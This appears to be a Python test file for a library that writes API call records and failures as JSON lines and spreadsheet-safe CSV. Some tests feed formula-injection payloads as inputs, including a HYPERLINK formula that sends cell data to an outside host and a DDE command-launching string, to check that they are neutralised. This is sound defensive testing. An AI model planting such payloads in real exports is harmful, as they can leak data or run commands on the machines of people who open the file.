"""Lines of records: JSON lines are what the server sent, CSV is safe in a spreadsheet."""

from __future__ import annotations

import codecs
import csv
import io
import json
from datetime import UTC, datetime

import attrs
import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from calls_async import structure_call, unstructure_call
from calls_async.journal import FailureRecord
from calls_async.journal._csv import (
    COLUMNS,
    FAILURE_HEAD,
    HEAD,
    call_row,
    failure_row,
    members,
)
from calls_async.journal._jsonl import FAILURE_COLUMNS, document_line, failure_line
from tests.documents import MEMBERS, calls, example

EXAMPLE = structure_call(example())

FAILURE = FailureRecord(
    id="Zoë\n",
    index=3,
    error="NotFoundError",
    message="the server answered 404 Not Found",
    status=404,
    retryable=False,
    stopped_by="final",
    attempts=1,
    elapsed=0.1234567,
    at=datetime(2026, 3, 1, 12, 0, 0, 987_654, tzinfo=UTC),
    request_id="req-1",
)


def cells(call):
    """The row of a record, as a reader of CSV has it."""
    (row,) = csv.reader(io.StringIO(call_row(call).decode(), newline=""))
    return dict(zip(COLUMNS, row, strict=True))


# --- JSON lines ----------------------------------------------------------------------------------


@given(
    st.recursive(st.none() | st.integers() | st.text(), lambda s: st.dictionaries(st.text(), s)),
    st.sampled_from([None, 2]),
    st.sampled_from(["\n", "\r\n"]),
)
def test_a_line_of_jsonl_is_the_document_that_was_sent(document, indent, end):
    """However the server lays out its JSON, the line is one line and parses to the same."""
    sent = json.dumps(document, indent=indent).replace("\n", end)
    line = document_line(codecs.BOM_UTF8 + f"{end}{sent}{end}".encode())
    assert line.endswith(b"\n")
    assert not set(line[:-1]) & set(b"\r\n")
    assert json.loads(line) == document


def test_a_compact_document_is_not_touched():
    """What already is one line is written byte by byte as it came."""
    raw = orjson.dumps(example())
    assert document_line(raw) == raw + b"\n"


# --- CSV -----------------------------------------------------------------------------------------


def test_the_columns_are_the_documented_members():
    """Every member of the page has a column, in the page's order, and nothing else has one."""
    leaves = [m for m in MEMBERS if m.kind != "object"]
    assert ["$." + column for column in COLUMNS] == [leaf.wire_path for leaf in leaves]
    assert (",".join(COLUMNS) + "\r\n").encode() == HEAD


def test_the_example_as_a_row():
    """Texts are as they are, times in the normal form, booleans as in JSON."""
    row = cells(EXAMPLE)
    assert row["id"] == "123e4567-e89b-12d3-a456-426614174000"
    assert row["contact.firstName"] == "John"
    assert row["contact.isUnknown"] == "false"
    assert row["phoneNumber.value"] == "+33612345678"
    assert row["startedAt"] == "2024-03-20T09:00:00.000Z"
    assert "" not in row.values()


def test_null_and_missing_are_empty():
    """A cell is empty where the member is null or not there."""
    document = example() | {"contact": None, "startedAt": None}
    del document["notes"]
    row = cells(structure_call(document))
    empty = {name for name, cell in row.items() if not cell}
    assert empty == {"startedAt", "notes"} | {c for c in COLUMNS if c.startswith("contact.")}


@given(calls())
def test_every_call_is_one_row_that_no_spreadsheet_computes(call):
    """A row has as many cells as there are columns, and none of them is a formula."""
    for name, cell in cells(call).items():
        if cell.startswith(("=", "@", "\t", "\r", "\n", "+", "-")):
            assert not set(cell[1:]) - set("0123456789 ().-"), name


@pytest.mark.parametrize(
    "note",
    [
        '=HYPERLINK("http://example.com/?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        "+33612345678\n=1",
    ],
)
def test_what_looks_like_a_formula_is_defused(note):
    """It gets an apostrophe, and is otherwise the same."""
    call = attrs.evolve(EXAMPLE, notes=note)
    assert cells(call)["notes"] == f"'{note}"


@pytest.mark.parametrize(
    "note", ["+33612345678", "+1 (212) 555-0123", "-", "'=1", "a=b", " =1", ""]
)
def test_what_computes_nothing_stays(note):
    """Phone numbers above all are not touched."""
    call = attrs.evolve(EXAMPLE, notes=note)
    assert cells(call)["notes"] == note


def test_members_are_those_that_the_record_has():
    """Nested members are named by their path, and members that nobody documents are kept."""
    call = structure_call(example() | {"new": {"a": [1]}, "contact": {"id": "7", "score": 3}})
    found = members(call)
    assert found["contact.id"] == "7"
    assert found["contact.score"] == 3
    assert found["new.a"] == [1]
    assert "contact.firstName" not in found
    assert set(unstructure_call(call)) == {name.split(".")[0] for name in found}


# --- Failures ------------------------------------------------------------------------------------


def test_a_failure_is_a_line_of_json():
    """It says which id, what, whether trying again can help, whom to ask and when it was."""
    told = json.loads(failure_line(FAILURE))
    assert told == {
        "id": "Zoë\n",
        "error": "NotFoundError",
        "message": "the server answered 404 Not Found",
        "retryable": False,
        "stoppedBy": "final",
        "attempts": 1,
        "status": 404,
        "requestId": "req-1",
        "elapsed": 0.123457,
        "at": "2026-03-01T12:00:00.987Z",
    }
    assert tuple(told) == FAILURE_COLUMNS


def test_a_failure_is_a_row():
    """The same members as cells; an id and a message are texts of strangers like any other."""
    failure = attrs.evolve(FAILURE, id="=1+1", message="-cmd", status=None, retryable=True)
    text = (FAILURE_HEAD + failure_row(failure)).decode()
    head, row = csv.reader(io.StringIO(text, newline=""))
    assert tuple(head) == FAILURE_COLUMNS
    assert row[:3] == ["'=1+1", "NotFoundError", "'-cmd"]
    assert (row[3], row[6]) == ("true", "")


@given(st.text(st.characters(exclude_categories=()), max_size=20))
def test_every_id_can_be_listed(call_id):
    """Also one that has no encoding, which is why it failed."""
    failure = attrs.evolve(FAILURE, id=call_id)
    line = failure_line(failure)
    assert line.count(b"\n") == 1
    assert json.loads(line)["id"] == call_id
    assert failure_row(failure).decode()
